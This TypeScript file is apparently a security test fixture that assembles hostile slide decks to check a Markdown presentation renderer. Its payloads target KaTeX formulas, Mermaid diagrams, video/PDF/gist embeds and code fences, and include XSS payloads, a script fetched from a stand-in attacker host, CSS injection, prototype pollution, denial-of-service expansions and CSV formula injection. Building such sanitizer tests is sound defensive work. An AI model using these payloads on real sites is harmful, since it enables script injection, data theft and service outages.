import { EVIL, RUN, slideDecks } from './hostile-deck.ts';

const FENCE = '```';
const fence = (kind: string, text: string) => `${FENCE}${kind}\n${text}\n${FENCE}`;

/** Formulas, by KaTeX. */
const FORMULAS: Readonly<Record<string, string>> = {
  'a link': `$\\href{javascript:${RUN}}{x}$ $$\\href{javascript:${RUN}}{x}$$`,
  'an address': `$\\url{javascript:${RUN}}$`,
  'a picture': `$\\includegraphics[height=1em]{${EVIL}/x.png}$`,
  'a class': '$\\htmlClass{reveal slides overlay}{x} \\htmlId{slides}{x}$',
  'a style': `$\\htmlStyle{position:fixed;inset:0;background:url(${EVIL}/x.png)}{x}$`,
  'data': `$\\htmlData{background-iframe=${EVIL}/, onclick=${RUN}}{x}$`,
  'a colour': `$\\color{red;background:url(${EVIL}/x.png)} x \\textcolor{"onclick=${RUN}}{y}$`,
  'a macro that explodes': `$$\\def\\a{\\a\\a}\\a$$ $$\\def\\b#1{#1#1#1#1}\\b{\\b{\\b{\\b{\\b{\\b{\\b{\\b{\\b{x}}}}}}}}}$$`,
  'a macro for others': `$\\gdef\\frac#1#2{\\href{javascript:${RUN}}{x}}$\n\n$\\frac{1}{2}$`,
  'a macro by the name of a prototype': '$\\__proto__ \\constructor \\toString \\gdef\\constructor{x}$',
  'a size without end': '$\\rule{999999em}{999999em} \\kern{99999em} \\raisebox{99999em}{x}$',
  'deep groups': `$${'{'.repeat(5000)}x${'}'.repeat(5000)}$`,
  'deep roots': `$$${'\\sqrt{'.repeat(1000)}x${'}'.repeat(1000)}$$`,
  'markup': `$<img src=x onerror=${RUN}>$ $$\\text{<script>${RUN}</script>}$$ $\\unicode{60}$`,
  'an error with markup': `$\\nope{<img src=x onerror=${RUN}>}$ $$\\frac{$$`,
  'a fence': fence('math', `\\href{javascript:${RUN}}{x}`),
  'many': '$x$ '.repeat(2000),
}; // prettier-ignore

/** Diagrams, by Mermaid. */
const DIAGRAMS: Readonly<Record<string, string>> = {
  'a pressed node': `graph TD\n  A[x] --> B\n  click A href "javascript:${RUN}" "x" _top`,
  'a call': `graph TD\n  A --> B\n  click A call alert(1)\n  click B callback "x"`,
  'loose security': `%%{init: {"securityLevel":"loose","themeCSS":"* { background: url(${EVIL}/x.png); position: fixed }"}}%%\ngraph TD\n  A["<img src=x onerror=${RUN}>"]`,
  'a theme with variables': `%%{init: {"theme":"base","themeVariables":{"primaryColor":"red;}*{background:url(${EVIL}/x.png)}"}}}%%\ngraph TD\n  A`,
  'a font': `%%{init: {"fontFamily":"x;}body{background:url(${EVIL}/x.png)}"}}%%\ngraph TD\n  A`,
  'a prototype': `%%{init: {"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}}%%\ngraph TD\n  A`,
  'front matter': `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  dompurifyConfig: { ADD_TAGS: [script] }\n---\ngraph TD\n  A["<script>${RUN}</script>"]`,
  'markup in a label': `graph TD\n  A["<img src=x onerror=${RUN}>"] -- "<iframe srcdoc='<script>${RUN}</script>'>" --> B`,
  'a style': `graph TD\n  A:::x --> B\n  style A fill:url(${EVIL}/x.png),position:fixed\n  classDef x background:url(${EVIL}/y.png)`,
  'a picture': `graph TD\n  A@{ img: "${EVIL}/x.png", label: "x" }\n  B@{ icon: "fa:x" }`,
  'a sequence': `sequenceDiagram\n  participant A as <img src=x onerror=${RUN}>\n  link A: x @ javascript:${RUN}\n  links A: {"x": "javascript:${RUN}"}`,
  'a class': `classDiagram\n  class A["<img src=x onerror=${RUN}>"]\n  link A "javascript:${RUN}"\n  callback A "alert"`,
  'a Gantt chart': `gantt\n  section <script>${RUN}</script>\n  x :a, 2026-01-01, 1d\n  click a href "javascript:${RUN}"`,
  'a mind map': `mindmap\n  root((<img src=x onerror=${RUN}>))\n    ::icon(x" onclick="${RUN})`,
  'a formula': `graph TD\n  A["$$\\href{javascript:${RUN}}{x}$$"]`,
  'a loop': `graph TD\n${Array.from({ length: 600 }, (_, index) => `  A${index} --> A${(index * 7) % 600}`).join('\n')}`,
  'an error': `graph TD\n  A --> <img src=x onerror=${RUN}>`,
}; // prettier-ignore

/** Cards that embed something from elsewhere. */
const EMBEDS: Readonly<Record<string, string>> = {
  'YouTube': '{%youtube "><script>window.pwned=1</script>%}',
  'YouTube with a path': `{%youtube ../../..${EVIL}/%} {%youtube x?autoplay=1&origin=${EVIL}%}`,
  'YouTube with a handler': `{%youtube x" onload="${RUN}%}`,
  'Vimeo': `{%vimeo 1"><img src=x onerror=${RUN}>%} {%vimeo javascript:${RUN}%}`,
  'a gist': `{%gist x/y"><script src=${EVIL}/x.js></script>%}`,
  'a PDF': `{%pdf javascript:${RUN}%} {%pdf data:text/html,<script>${RUN}</script>%} {%pdf ${EVIL}/x.pdf%}`,
  'a slide show': `{%slideshare x/y"><script>${RUN}</script>%} {%speakerdeck ${EVIL}%}`,
  'an empty one': '{%%} {% %} {%youtube%} {%pdf %} {%__proto__ x%} {%constructor x%}',
  'one in one': `{%youtube {%pdf javascript:${RUN}%}%}`,
  'a link': `[x]({%pdf javascript:${RUN}%}) <a href="{%pdf javascript:${RUN}%}" id="go">x</a>`,
  'figma': `{%figma ${EVIL}/x%} {%fiddle ${EVIL}/x%} {%codepen ${EVIL}/x%} {%tweet ${EVIL}/x%} {%oembed ${EVIL}/x%}`,
}; // prettier-ignore

/** Code that is highlighted, and other fences that become something. */
const FENCES: Readonly<Record<string, string>> = {
  'code with markup': fence('html', `<script>${RUN}</script><img src=x onerror=${RUN}>`),
  'code with an end': fence('js', `</code></pre><img src=x onerror=${RUN}>`),
  'code with numbers': fence('js=999999999', `"<img src=x onerror=${RUN}>"`),
  'code with steps': fence('js [1|2-99999999]', `x // <img src=x onerror=${RUN}>`),
  'code that is slow to read': fence('js', `${'/'.repeat(5000)}${'`${'.repeat(500)}`),
  'code of many languages': fence('xml', `<!${'['.repeat(3000)}<![CDATA[${'<'.repeat(3000)}`),
  'a graph': fence('graphviz', `digraph { a [URL="javascript:${RUN}", label=<<img src="${EVIL}/x.png"/>>] }`),
  'a flow chart': fence('flow', `st=>start: <img src=x onerror=${RUN}>:>javascript:${RUN}[blank]`),
  'a sequence': fence('sequence', `A->B: <img src=x onerror=${RUN}>`),
  'notes of music': fence('abc', `X:1\nT:<script>${RUN}</script>\nK:C\nCDEF`),
  'Vega': fence('vega', `{"data":{"url":"${EVIL}/x.json"},"mark":{"href":"javascript:${RUN}"}}`),
  'PlantUML': fence('plantuml', `!include ${EVIL}/x\nA -> B : [[javascript:${RUN} x]]`),
  'a table of CSV': fence('csvpreview {header="true" onclick="x"}', `<img src=x onerror=${RUN}>,b\n=cmd|x,2`),
  'geo': fence('geo', `{"url":"${EVIL}/x","type":"<img src=x onerror=${RUN}>"}`),
  'Markmap': fence('markmap', `# <img src=x onerror=${RUN}>\n- [x](javascript:${RUN})`),
}; // prettier-ignore

/** Attacks on what is drawn from text on demand, and on what looks like it. */
export const PARTS_DECKS = [
  ...slideDecks('formula', FORMULAS),
  ...slideDecks(
    'diagram',
    Object.fromEntries(Object.entries(DIAGRAMS).map(([name, text]) => [name, fence('mermaid', text)])),
  ),
  ...slideDecks('embed', EMBEDS),
  ...slideDecks('fence', FENCES),
];
